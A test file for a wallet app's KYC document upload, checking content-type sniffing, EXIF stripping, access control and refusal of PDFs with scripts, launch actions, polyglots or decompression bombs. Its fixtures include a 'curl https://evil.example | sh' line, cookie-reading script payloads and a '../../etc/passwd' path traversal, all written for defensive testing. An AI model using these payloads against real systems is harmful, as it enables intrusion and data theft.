import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import { PDFDocument } from 'pdf-lib'
import sharp from 'sharp'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { KycReviewBody } from '#shared/contract/admin-wallet.ts'
import { KYC_MAX_BYTES } from '#shared/kyc-rules.ts'
import { call } from '../support/call'
import { createTestApp, type TestApp } from '../support/test-app'
import { makeUser, type TestUser } from '../support/test-users'
import {
  cleanPdf,
  handWrittenPdf,
  objectStreamBomb,
  pdfWithAttachment,
  pdfWithOpenActionScript,
} from './pdf-fixtures'
import { createWallet, multipartForm, readWallet } from './wallet-fixtures'

let t: TestApp
let user: TestUser
let admin: TestUser
beforeAll(async () => {
  t = await createTestApp({ seed: false })
  user = await makeUser(t.app)
  admin = await makeUser(t.app, { admin: true })
  await createWallet(t.app, user)
})
afterAll(() => t.close())

const upload = async (
  who: TestUser,
  file: { name: string; type: string; data: Buffer } | undefined,
  kind = 'identity',
) =>
  call(t.app, 'walletKyc', {
    params: { username: user.username },
    as: who,
    body: multipartForm({ kind }, file),
  })

/** A stored document of `owner` as `who` downloads it (`null`: without a session). */
const kycDocument = (owner: TestUser, documentId: string, who: TestUser | null = owner) =>
  call(t.app, 'walletKycDocument', {
    params: { username: owner.username, documentId },
    ...(who ? { as: who } : {}),
  })

const photoWithExif = () =>
  sharp({ create: { width: 64, height: 48, channels: 3, background: '#c33' } })
    .jpeg()
    .withExif({ IFD0: { Copyright: 'GPS 48.8584 N 2.2945 E', Artist: 'Ada Lovelace' } })
    .toBuffer()

const documentError = (response: { json(): { errors: { children: { document: { errors: string[] } } } } }) =>
  response.json().errors.children.document.errors[0]

test('a shell script renamed .png is refused by its content', async () => {
  const response = await upload(user, {
    name: 'passport.png',
    type: 'image/png',
    data: Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'),
  })
  expect(response.statusCode).toBe(400)
  expect(documentError(response)).toBe('kyc.unsupported_type')
})

test('an SVG carrying a script is refused', async () => {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
  const response = await upload(user, { name: 'id.svg', type: 'image/svg+xml', data: Buffer.from(svg) })
  expect(response.statusCode).toBe(400)
  expect(documentError(response)).toBe('kyc.unsupported_type')
})

test('an HTML page named .jpg is refused', async () => {
  const response = await upload(user, {
    name: 'id.jpg',
    type: 'image/jpeg',
    data: Buffer.from('<html><script>alert(1)</script></html>'),
  })
  expect(documentError(response)).toBe('kyc.unsupported_type')
})

test('an oversized document is refused with a clear error', async () => {
  const big = Buffer.concat([await photoWithExif(), Buffer.alloc(KYC_MAX_BYTES)])
  const response = await upload(user, { name: 'big.jpg', type: 'image/jpeg', data: big })
  expect(response.statusCode).toBe(400)
  expect(documentError(response)).toBe('kyc.too_large')
  expect(response.json().message).toMatch(/8 MB/)
})

test('a missing file or an unknown kind is a form error', async () => {
  expect(documentError(await upload(user, undefined))).toBe('validation.required')
  const photo = await photoWithExif()
  const badKind = await upload(user, { name: 'a.jpg', type: 'image/jpeg', data: photo }, 'selfie')
  expect(badKind.statusCode).toBe(400)
  expect(badKind.json().errors.children.kind).toBeDefined()
})

test('a real JPEG is accepted, stored under a server name with its EXIF removed', async () => {
  const photo = await photoWithExif()
  expect((await sharp(photo).metadata()).exif).toBeDefined()
  const response = await upload(user, { name: '../../etc/passwd.jpg', type: 'image/jpeg', data: photo })
  expect(response.statusCode).toBe(201)
  const document = response.answer()
  expect(document).toMatchObject({ kind: 'identity', status: 'pending', mimeType: 'image/jpeg' })

  const stored = readdirSync(join(t.app.config.dataDir, 'kyc'))
  expect(stored.some((name) => name.includes('passwd') || name.includes('..'))).toBe(false)
  expect(stored.every((name) => /^[0-9a-f-]{36}\.(jpg|png|webp|pdf)$/.test(name))).toBe(true)

  const download = await kycDocument(user, document.id)
  expect(download.statusCode).toBe(200)
  expect(download.headers['content-disposition']).toMatch(/^attachment;/)
  expect(download.headers['x-content-type-options']).toBe('nosniff')
  expect(download.headers['content-type']).toBe('image/jpeg')
  const metadata = await sharp(download.rawPayload).metadata()
  expect(metadata.exif).toBeUndefined()
  expect(download.rawPayload.toString('latin1')).not.toContain('48.8584')

  expect((await readWallet(t.app, user)).stripe.status.person.status).toBe('pending')
})

test('documents are served to their owner and admins only', async () => {
  const photo = await photoWithExif()
  const document = (await upload(user, { name: 'a.jpg', type: 'image/jpeg', data: photo })).answer()
  const stranger = await makeUser(t.app)
  expect((await kycDocument(user, document.id, stranger)).statusCode).toBe(403)
  expect((await kycDocument(user, document.id, null)).statusCode).toBe(401)
  expect((await kycDocument(user, document.id, admin)).statusCode).toBe(200)
  // Another user's document id under one's own name is not found, not served.
  await createWallet(t.app, stranger)
  const crossed = await kycDocument(stranger, document.id)
  expect(crossed.statusCode).toBe(404)
})

/** A user of their own with a wallet: each PDF case spends its own upload allowance. */
const uploadPdfAsNewUser = async (data: Buffer) => {
  const owner = await makeUser(t.app)
  await createWallet(t.app, owner)
  const response = await call(t.app, 'walletKyc', {
    params: { username: owner.username },
    as: owner,
    body: multipartForm({ kind: 'proof_of_address' }, { name: 'scan.pdf', type: 'application/pdf', data }),
  })
  return { owner, response }
}

test('a clean PDF scan is accepted and stored as a copy rebuilt from its pages, without its metadata', async () => {
  const { owner, response } = await uploadPdfAsNewUser(await cleanPdf({ useObjectStreams: true }))
  expect(response.statusCode).toBe(201)
  const document = response.answer()
  expect(document.mimeType).toBe('application/pdf')
  const download = await kycDocument(owner, document.id)
  const stored = await PDFDocument.load(download.rawPayload)
  expect(stored.getPageCount()).toBe(1)
  expect(stored.getPage(0).getSize()).toEqual({ width: 595, height: 842 })
  expect(stored.getAuthor()).toBeUndefined()
})

test('a PDF that runs JavaScript when opened is refused', async () => {
  const { response } = await uploadPdfAsNewUser(await pdfWithOpenActionScript({ useObjectStreams: false }))
  expect(response.statusCode).toBe(400)
  expect(documentError(response)).toBe('kyc.pdf_active_content')
})

test('JavaScript compressed inside an object stream is found and refused', async () => {
  const pdf = await pdfWithOpenActionScript({ useObjectStreams: true })
  // Nothing for a byte search to find: the action only exists once the object stream is inflated.
  expect(pdf.includes('JavaScript')).toBe(false)
  const { response } = await uploadPdfAsNewUser(pdf)
  expect(documentError(response)).toBe('kyc.pdf_active_content')
})

/** A document-level script (the catalog's /Names /JavaScript tree) with every name spelled as given. */
const scriptBehindNames = (javaScript: string, js: string) =>
  handWrittenPdf({
    catalogExtra: `/Names << /${javaScript} 4 0 R >>`,
    extraObjects: [
      Buffer.from('<< /Names [(run) 5 0 R] >>'),
      Buffer.from(`<< /Type /Action /S /${javaScript} /${js} (app.alert\\(1\\)) >>`),
    ],
  })

test('JavaScript named with #xx escapes, in upper or lower case, is refused', async () => {
  // #61 is an a, #53 an S, #4a a J: the names a reader sees are /JavaScript and /JS.
  for (const pdf of [scriptBehindNames('J#61vaScript', 'J#53'), scriptBehindNames('#4aavaScript', '#4aS')]) {
    expect(/JavaScript|\/JS\b/.test(pdf.toString('latin1'))).toBe(false)
    const { response } = await uploadPdfAsNewUser(pdf)
    expect(documentError(response)).toBe('kyc.pdf_active_content')
  }
})

test('a PDF with an attached file or a launch action is refused', async () => {
  const attached = await uploadPdfAsNewUser(await pdfWithAttachment())
  expect(documentError(attached.response)).toBe('kyc.pdf_active_content')
  const launch = handWrittenPdf({ catalogExtra: '/OpenAction << /S /Launch /F (calc.exe) >>' })
  expect(documentError((await uploadPdfAsNewUser(launch)).response)).toBe('kyc.pdf_active_content')
})

test('a script replaced by a later revision of the file is still refused', async () => {
  // A reader following an edited cross-reference table may still reach the first version of object 4.
  const pdf = handWrittenPdf({
    catalogExtra: '/OpenAction 4 0 R',
    extraObjects: [Buffer.from('<< /S /JavaScript /JS (app.alert(1)) >>')],
    update: [Buffer.from('<< /S /GoTo /D [3 0 R /Fit] >>')],
  })
  const { response } = await uploadPdfAsNewUser(pdf)
  expect(documentError(response)).toBe('kyc.pdf_active_content')
})

test('an HTML page behind a PDF header, or between the objects of a PDF, is refused as unreadable', async () => {
  const html = Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>\n')
  const headerOnly = Buffer.concat([Buffer.from('%PDF-1.7\n'), html, Buffer.from('%%EOF\n')])
  expect(documentError((await uploadPdfAsNewUser(headerOnly)).response)).toBe('kyc.pdf_unreadable')
  // A working PDF with a page of HTML slipped in after its first object: readers skip it, a browser
  // sniffing the file would not.
  const pdf = handWrittenPdf()
  const afterFirstObject = pdf.indexOf('endobj') + 'endobj\n'.length
  const polyglot = Buffer.concat([pdf.subarray(0, afterFirstObject), html, pdf.subarray(afterFirstObject)])
  const { response } = await uploadPdfAsNewUser(polyglot)
  expect(response.statusCode).toBe(400)
  expect(documentError(response)).toBe('kyc.pdf_unreadable')
})

test('a PDF whose object stream inflates to 16 MB from a few KB is refused as unreadable', async () => {
  const bomb = handWrittenPdf({ extraObjects: [Buffer.from('<< >>'), objectStreamBomb(16 * 1024 * 1024)] })
  expect(bomb.length).toBeLessThan(64 * 1024)
  const { response } = await uploadPdfAsNewUser(bomb)
  expect(documentError(response)).toBe('kyc.pdf_unreadable')
})

test('an admin rejects with a reason, then verifies; the wallet status follows', async () => {
  const queue = await call(t.app, 'adminKyc', { as: admin, query: { status: 'pending' } })
  const items = queue.answer().items
  const identity = items.filter((item) => item.username === user.username && item.kind === 'identity')
  expect(identity.length).toBeGreaterThanOrEqual(2)
  const review = (id: string, body: KycReviewBody) =>
    call(t.app, 'adminKycReview', { params: { id }, as: admin, body })
  const walletStatus = async () => (await readWallet(t.app, user)).stripe.status.person

  expect((await review(identity[0]?.id ?? '', { status: 'rejected' })).statusCode).toBe(400)
  for (const item of identity) {
    expect((await review(item.id, { status: 'rejected', reason: 'The photo is blurred' })).statusCode).toBe(
      200,
    )
  }
  expect(await walletStatus()).toEqual({ status: 'rejected', reason: 'The photo is blurred' })
  expect((await review(identity[0]?.id ?? '', { status: 'verified' })).statusCode).toBe(409)

  const photo = await photoWithExif()
  const fresh = (await upload(user, { name: 'new.jpg', type: 'image/jpeg', data: photo })).answer()
  expect((await walletStatus()).status).toBe('pending')
  expect((await review(fresh.id, { status: 'verified' })).statusCode).toBe(200)
  expect(await walletStatus()).toEqual({ status: 'verified', reason: null })
  const onboarding = await call(t.app, 'walletOnboarding', { params: { username: user.username }, as: user })
  expect(onboarding.answer().certificationVerified).toBe(true)
  const audit = await t.app.db.query.auditLog.findMany()
  expect(audit.filter((row) => row.action === 'kyc.review').length).toBeGreaterThanOrEqual(3)
})
